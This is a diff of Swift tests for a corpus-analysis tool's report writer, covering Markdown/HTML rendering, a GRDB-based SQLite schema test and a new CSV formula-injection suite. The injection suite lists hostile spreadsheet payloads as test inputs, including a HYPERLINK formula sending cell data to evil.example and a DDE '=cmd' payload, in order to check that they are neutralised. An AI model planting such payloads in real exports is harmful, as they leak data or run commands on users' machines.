@@ -64,7 +64,7 @@ enum ReportFixture {
         let md = MarkdownRenderer(model: ReportModel(analysis: analysis, summary: ReportFixture.summary())).render()
         #expect(md.contains("pipe \\| in title and newline"))
         #expect(!md.contains("<script>"))
-        #expect(md.hasSuffix("|\n") && !md.hasSuffix("\n\n"))
+        #expect(md.hasSuffix("\n") && !md.hasSuffix("\n\n"))
     }
 
     @Test func bothRenderersShowTheSameSections() throws {
@@ -72,7 +72,8 @@ enum ReportFixture {
         let model = ReportModel(analysis: analysis, summary: ReportFixture.summary())
         let html = HTMLRenderer(model: model).render(), md = MarkdownRenderer(model: model).render()
         for section in model.sections {
-            #expect(html.contains("<h2>\(HTML.escape(section.title))</h2>"), "\(section.title)")
+            let id = section.anchor.map { " id=\"\($0)\"" } ?? ""
+            #expect(html.contains("<h2\(id)>\(HTML.escape(section.title))</h2>"), "\(section.title)")
             #expect(md.contains("## \(MarkdownText.cell(section.title))\n"), "\(section.title)")
         }
         #expect(model.sections.map(\.title).contains("Keyness: japan vs korea (focus)"))
@@ -83,7 +84,7 @@ enum ReportFixture {
         let analysis = try ReportFixture.analysis([ReportFixture.article("a", title: "One"),
                                                    ReportFixture.article("b", title: "Two, with comma", date: nil)])
         let names = try ReportWriter(folder: folder).write(analysis, summary: ReportFixture.summary())
-        #expect(names == ReportWriter.fileNames + RunTables.corpusTables(analysis).map(\.name))
+        #expect(names == ReportWriter.outputs(analysis))
         let contents = try FileManager.default.contentsOfDirectory(atPath: folder.path).sorted()
         #expect(contents == names.sorted())
         let csv = try String(contentsOf: folder.appendingPathComponent("documents.csv"), encoding: .utf8)
@@ -108,34 +109,82 @@ enum ReportFixture {
     }
 }
 
-internal import CSQLite
+import GRDB
 
 @Suite struct SQLiteTablesTests {
-    @Test func databaseHoldsTheSameRowsAsTheCSVTables() throws {
+    @Test func databaseHoldsEveryTableWithKeysAndVersion() throws {
         let folder = FileManager.default.temporaryDirectory.appendingPathComponent("wl-sqlite-\(UUID().uuidString)")
-        let analysis = try ReportFixture.analysis([ReportFixture.article("a", title: "O'Brien; \"x\""),
-                                                   ReportFixture.article("b", title: "B")])
+        let analysis = try ReportFixture.analysis([ReportFixture.article("a", title: "O'Brien; \"x\"", date: "2023-05-01T08:00:00+09:00"),
+                                                   ReportFixture.article("b", title: "B"),
+                                                   ReportFixture.article("c", title: "C", text: "The weather was mild in the city today.")])
         try ReportWriter(folder: folder).write(analysis, summary: ReportFixture.summary(
             failures: [FailureRecord(path: "bad.html", stage: "ingest", code: "binary", reason: "NUL bytes")]))
-        var db: OpaquePointer?
-        #expect(sqlite3_open_v2(folder.appendingPathComponent("wavelength.sqlite").path, &db, SQLITE_OPEN_READONLY, nil) == SQLITE_OK)
-        defer { sqlite3_close(db) }
-        func scalar(_ sql: String) -> String? {
-            var stmt: OpaquePointer?
-            guard sqlite3_prepare_v2(db, sql, -1, &stmt, nil) == SQLITE_OK else { return nil }
-            defer { sqlite3_finalize(stmt) }
-            guard sqlite3_step(stmt) == SQLITE_ROW, let text = sqlite3_column_text(stmt, 0) else { return nil }
-            return String(cString: text)
-        }
-        let b = try #require(analysis.documents.last)
-        #expect(scalar("SELECT count(*) FROM documents") == "2")
-        #expect(scalar("SELECT title FROM documents WHERE id = 'a'") == "O'Brien; \"x\"")
-        #expect(scalar("SELECT sentiment_korea IS NULL FROM documents WHERE id = 'a'") == "1")
-        #expect(scalar("SELECT sentiment_japan IS NULL FROM documents WHERE id = 'a'") == "0")
-        #expect(scalar("SELECT nostalgia FROM documents WHERE id = 'b'") == String(b.themeHits("nostalgia")))
-        #expect(b.themeHits("nostalgia") > 0)
-        #expect(scalar("SELECT reason FROM failures") == "NUL bytes")
+        let db = try DatabaseQueue(path: folder.appendingPathComponent("wavelength.sqlite").path)
+        let b = try #require(analysis.documents.dropLast().last)
         let term = try #require(analysis.terms.first)
-        #expect(scalar("SELECT count FROM terms WHERE term = '\(term.term)' AND language = '\(term.group)'") == String(term.count))
+        try db.read { db in
+            let names = try String.fetchAll(db, sql: "SELECT name FROM sqlite_master WHERE type = 'table' ORDER BY name")
+            #expect(Set(names) == Set(RunSchema.tables(RunTables.columns(analysis), topics: false).map(\.name)))
+            #expect(try Int.fetchOne(db, sql: "PRAGMA user_version") == RunSchema.userVersion)
+            #expect(try Row.fetchAll(db, sql: "PRAGMA foreign_key_check").isEmpty)
+            #expect(try Int.fetchOne(db, sql: "SELECT count(*) FROM documents") == 3)
+            #expect(try String.fetchOne(db, sql: "SELECT title FROM documents WHERE id = 'a'") == "O'Brien; \"x\"")
+            #expect(try Bool.fetchOne(db, sql: "SELECT sentiment_korea IS NULL FROM documents WHERE id = 'a'") == true)
+            #expect(try Bool.fetchOne(db, sql: "SELECT sentiment_japan IS NULL FROM documents WHERE id = 'a'") == false)
+            #expect(try Int.fetchOne(db, sql: "SELECT nostalgia FROM documents WHERE id = 'b'") == b.themeHits("nostalgia"))
+            #expect(b.themeHits("nostalgia") > 0)
+            // Typed dates: the UTC instant (08:00 JST is 23:00 the day before) and the outlet's own date.
+            #expect(try String.fetchOne(db, sql: "SELECT published_utc FROM documents WHERE id = 'a'") == "2023-04-30 23:00:00")
+            #expect(try String.fetchOne(db, sql: "SELECT published_date FROM documents WHERE id = 'a'") == "2023-05-01")
+            #expect(try String.fetchOne(db, sql: "SELECT published_utc FROM documents WHERE id = 'b'") == nil)
+            #expect(try String.fetchOne(db, sql: "SELECT typeof(framing_index) FROM documents WHERE id = 'c'") == "null")
+            #expect(try String.fetchOne(db, sql: "SELECT typeof(framing_index) FROM documents WHERE id = 'a'") == "real")
+            #expect(try String.fetchOne(db, sql: "SELECT reason FROM failures") == "NUL bytes")
+            #expect(try Int.fetchOne(db, sql: "SELECT count FROM terms WHERE term = ? AND language = ?",
+                                     arguments: [term.term, term.group]) == term.count)
+            // Declared types, keys and join indexes.
+            let columns = try Row.fetchAll(db, sql: "PRAGMA table_info(documents)")
+            #expect(columns.first { $0["name"] == "published_date" }?["type"] == "DATE")
+            #expect(columns.first { $0["name"] == "id" }?["pk"] == 1)
+            let indexes = try String.fetchAll(db, sql: "SELECT name FROM sqlite_master WHERE type = 'index' AND tbl_name = 'duplicates'")
+            #expect(indexes.contains("duplicates_representative_id"))
+            #expect(try Int.fetchOne(db, sql: "SELECT count(*) FROM tokens WHERE document_id = 'a'") ?? 0 > 5)
+        }
+    }
+}
+
+/// CSV formula injection: spreadsheet-safe CSV by default, exact text everywhere else.
+@Suite struct SpreadsheetSafetyTests {
+    static let hostile = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "=cmd|' /C calc'!A0",
+                          "+SUM(1,2)", "-2+3", "@SUM(A1)", "\tTAB", "\rCR"]
+
+    @Test func cellsThatWouldRunAreNeutralisedAndNumbersAreNot() {
+        for cell in Self.hostile { #expect(CSVTable.neutralized(cell) == "'" + cell) }
+        for cell in ["-0.2500", "+3", "-1e-05", "1.5", "plain", "", "a=b", "-", "-inf"] {
+            #expect(CSVTable.neutralized(cell) == (cell == "-" || cell == "-inf" ? "'" + cell : cell))
+        }
+        var table = CSVTable(header: ["title", "score"])
+        table.append(["=1+1", "-0.5"])
+        #expect(table.text == "title,score\n'=1+1,-0.5\n")
+        #expect(table.render(.raw) == "title,score\n=1+1,-0.5\n")
+    }
+
+    @Test func runTablesAreSafeAndJSONLinesAndSQLiteKeepTheExactText() throws {
+        let title = Self.hostile[1]
+        let analysis = try ReportFixture.analysis([ReportFixture.article("a", title: title)])
+        let safe = FileManager.default.temporaryDirectory.appendingPathComponent("wl-csv-\(UUID().uuidString)")
+        try ReportWriter(folder: safe).write(analysis, summary: ReportFixture.summary())
+        let csv = try String(contentsOf: safe.appendingPathComponent("documents.csv"), encoding: .utf8)
+        #expect(csv.contains(",'=cmd|' /C calc'!A0,"))
+        #expect(!csv.contains(",=cmd"))
+        let jsonl = try String(contentsOf: safe.appendingPathComponent("documents.jsonl"), encoding: .utf8)
+        #expect(jsonl.contains("\"title\":\"=cmd|' /C calc'!A0\""))
+        let db = try DatabaseQueue(path: safe.appendingPathComponent("wavelength.sqlite").path)
+        #expect(try db.read { try String.fetchOne($0, sql: "SELECT title FROM documents") } == title)
+
+        let raw = FileManager.default.temporaryDirectory.appendingPathComponent("wl-csv-\(UUID().uuidString)")
+        try ReportWriter(folder: raw, cells: .raw).write(analysis, summary: ReportFixture.summary())
+        let rawCSV = try String(contentsOf: raw.appendingPathComponent("documents.csv"), encoding: .utf8)
+        #expect(rawCSV.contains(",=cmd|' /C calc'!A0,"))
     }
 }
